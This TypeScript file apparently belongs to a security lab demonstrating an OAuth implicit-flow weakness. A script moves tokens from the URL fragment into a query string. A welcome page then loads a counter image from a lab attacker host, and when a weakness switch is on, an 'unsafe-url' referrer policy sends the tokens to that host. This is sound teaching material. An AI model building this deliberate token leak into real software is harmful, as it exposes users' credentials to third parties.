/** The page after a sign-in, with a counter of visitors from another web site. A line that a switch makes weak names the switch. */
import { randomBytes } from 'node:crypto'
import type { Lab } from '../lab.ts'
import type { Routes } from '../serve.ts'

/** token_in_fragment: the tokens come in the address itself, and never through the server. */
export function implicitRequest(lab: Lab): string {
  const query = new URLSearchParams({
    response_type: 'id_token token',
    client_id: 'notes-in-the-browser',
    redirect_uri: `${lab.at.client}/implicit`,
    scope: 'openid profile read',
    resource: lab.at.notes,
    state: randomBytes(32).toString('base64url'),
    nonce: randomBytes(32).toString('base64url'),
  })
  return `${lab.at.provider}/authorize?${query}`
}

/** A fragment does not go to a server. So the script puts it where the next page can read it. */
const script = `location.replace('/welcome?' + location.hash.slice(1))`

export function welcome(lab: Lab): Routes {
  const counter = `${lab.at.attacker}/counter.gif`
  const html = (body: string, headers: Record<string, string>) =>
    new Response(
      `<!doctype html>
<html lang="en">
<meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>Notes</title><link rel="icon" href="data:,"><link rel="stylesheet" href="/style.css">
<main>${body}</main>
</html>`,
      { headers: { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store', ...headers } },
    )

  return {
    '/implicit': () => html('<script src="/implicit.js"></script>', {}),
    '/implicit.js': () => new Response(script, { headers: { 'content-type': 'text/javascript' } }),
    '/welcome': () =>
      html(
        `<h1>Welcome</h1><p>You are visitor number <img src="${counter}" alt="1"></p><p><a href="/">Your notes</a></p>`,
        // token_in_fragment: pictures of other sites learn the whole address, as all did until 2020.
        { 'referrer-policy': lab.weak('token_in_fragment') ? 'unsafe-url' : 'no-referrer' },
      ),
  }
}
